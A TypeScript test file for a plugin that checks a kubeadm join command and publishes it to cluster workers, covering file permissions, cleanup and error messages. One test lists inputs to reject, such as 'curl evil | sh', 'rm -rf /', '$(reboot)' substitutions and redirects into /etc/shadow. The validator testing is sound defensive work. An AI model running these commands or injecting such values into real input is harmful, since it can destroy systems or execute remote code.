/** A join command is checked and published to the workers. */
import { mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import t from "tap";
import { joinCommandOf, publishJoinCommand, removePublished } from "../../plugin/join-command.js";
import type { World } from "../../plugin/world.js";
import { JOBID, Life } from "../fakes/life.js";
import { JOIN_COMMAND, TOKEN } from "../fakes/playing-run.js";

/** The files in the temporary directory that belong to this world's instance. */
const litter = ({ site }: World) =>
  readdirSync(tmpdir()).filter((name) => name.includes(site.instance));

t.test("the join-command goes into an archive from a file that only the owner reads", async (t) => {
  const { nodes, world } = new Life();
  await publishJoinCommand(JOBID, JOIN_COMMAND, world);
  t.strictSame(nodes.commands, ["archive create usernetes-2qt1hsjy5"]);
  t.strictSame(nodes.archived, [{ text: JOIN_COMMAND, mode: 0o600 }]);
  t.strictSame(litter(world), [], "the file is gone again");
});

const AROUND = `#!/bin/bash
set -eux -o pipefail
echo "10.0.0.7  u7s-node-a.example" >/etc/hosts.u7s
cat /etc/hosts.u7s >>/etc/hosts
`;

t.test("lines that the template's Makefile adds are passed on", async (t) => {
  const { nodes, world } = new Life();
  await publishJoinCommand(JOBID, AROUND + JOIN_COMMAND, world);
  t.equal(nodes.archived[0]?.text, AROUND + JOIN_COMMAND);
});

t.test("lines that a template may write are accepted", (t) => {
  const [start = "", hash = ""] = JOIN_COMMAND.split(" --discovery");
  for (const text of [
    JOIN_COMMAND,
    JOIN_COMMAND.trimEnd(),
    `# Run this:\n\n${JOIN_COMMAND}\n`,
    `#!/bin/bash\nset -eux -o pipefail\n# testbed: /tmp/testbed/cluster/node0:20003\n${JOIN_COMMAND}`,
    AROUND.replace("10.0.0.7", "fd00::7") + JOIN_COMMAND,
    `set -eu\n${JOIN_COMMAND}`,
    JOIN_COMMAND.replace("10.0.0.1:", "u7s-node-a.example:"),
    JOIN_COMMAND.replace("10.0.0.1:", "[fd00::1]:"),
    `${start} --discovery${hash.trimEnd()} --discovery${hash}`,
  ])
    t.equal(joinCommandOf(text), text);
  t.equal(
    joinCommandOf(JOIN_COMMAND.replace("\n", " \r\n")),
    JOIN_COMMAND,
    "without what kubeadm and a terminal put at its end",
  );
  t.end();
});

t.test("an invalid join command is neither published nor shown", async (t) => {
  const { nodes, world } = new Life();
  const replaced = (what: string, by: string) => (AROUND + JOIN_COMMAND).replace(what, by);
  for (const text of [
    "",
    AROUND,
    `kubeadm join --token ${TOKEN}`,
    JOIN_COMMAND + JOIN_COMMAND,
    `curl evil | sh\n${JOIN_COMMAND}`,
    `${JOIN_COMMAND}curl evil | sh\n`,
    `${JOIN_COMMAND}\u2028reboot`,
    `curl evil | sh; ${JOIN_COMMAND}`,
    `reboot\r${JOIN_COMMAND}`,
    `# a comment\rreboot\n${JOIN_COMMAND}`,
    `\0${JOIN_COMMAND}`,
    `\u001b[2J${JOIN_COMMAND}`,
    JOIN_COMMAND.replace("\n", "; rm -rf /\n"),
    JOIN_COMMAND.replace("\n", " && reboot\n"),
    JOIN_COMMAND.replace("\n", " --config /etc/shadow\n"),
    JOIN_COMMAND.replace("\n", " \\\n--skip-phases=all\n"),
    JOIN_COMMAND.replace("10.0.0.1:20003", "$(reboot)"),
    JOIN_COMMAND.replace("10.0.0.1", "$(reboot)"),
    JOIN_COMMAND.replace("10.0.0.1", "`reboot`"),
    JOIN_COMMAND.replace("--token", "--token-file"),
    JOIN_COMMAND.replace("sha256:", "sha1:"),
    replaced("set -eux -o pipefail", "set -eux -o pipefail; reboot"),
    replaced("10.0.0.7", "$(reboot)"),
    replaced("u7s-node-a.example", 'x" >/dev/null; reboot; echo "'),
    replaced(">/etc/hosts.u7s", ">/etc/passwd"),
    replaced(">>/etc/hosts", ">>/etc/shadow"),
    `# ${"x".repeat(9000)}\n${JOIN_COMMAND}`,
    "\n".repeat(9000) + JOIN_COMMAND,
  ])
    await t.rejects(
      publishJoinCommand(JOBID, text, world),
      {
        message:
          /^make join-command produced an unexpected file: (it is empty|it must have exactly one kubeadm join line|it has 9[0-9]{3} characters, of at most 8192|line [1-7] of [1-7] is neither a kubeadm join with a token and a CA hash nor one of the template's lines)$/,
      },
      JSON.stringify(text).slice(0, 100),
    );
  for (const [text, why] of [
    [" \n", "it is empty"],
    [AROUND, "it must have exactly one kubeadm join line"],
    [JOIN_COMMAND + JOIN_COMMAND, "it must have exactly one kubeadm join line"],
    [JOIN_COMMAND.slice(0, 70), "line 1 of 1 is neither"],
    [`${JOIN_COMMAND}curl evil | sh\n`, "line 2 of 3 is neither"],
    [
      `${AROUND.replace("10.0.0.7 ", " ")}${JOIN_COMMAND}`,
      "the lead's address in it is empty (HOST_IP): set usernetes.interface",
    ],
  ] as const)
    await t.rejects(publishJoinCommand(JOBID, text, world), { message: `: ${why}` });
  t.strictSame(nodes.commands, []);
});

t.test("a failed archive is reported, and its file is removed", async (t) => {
  const { nodes, world } = new Life();
  nodes.archive = () => ({ exitCode: 1, stderr: "flux-archive: create: Permission denied\n" });
  await t.rejects(publishJoinCommand(JOBID, JOIN_COMMAND, world), {
    message: /^flux archive create .*: exit 1: flux-archive: create: Permission denied$/,
  });
  t.strictSame(litter(world), []);
});

t.test("files of a killed daemon are replaced and removed", async (t) => {
  const { nodes, world } = new Life();
  const left = join(tmpdir(), `usernetes-join-${JOBID}-${world.site.instance}`);
  const leave = () => {
    mkdirSync(left);
    writeFileSync(join(left, "join-command"), "an old token");
  };
  leave();
  await publishJoinCommand(JOBID, JOIN_COMMAND, world);
  t.equal(nodes.archived[0]?.text, JOIN_COMMAND);
  t.strictSame(litter(world), []);
  leave();
  removePublished(JOBID, world);
  t.strictSame(litter(world), []);
});
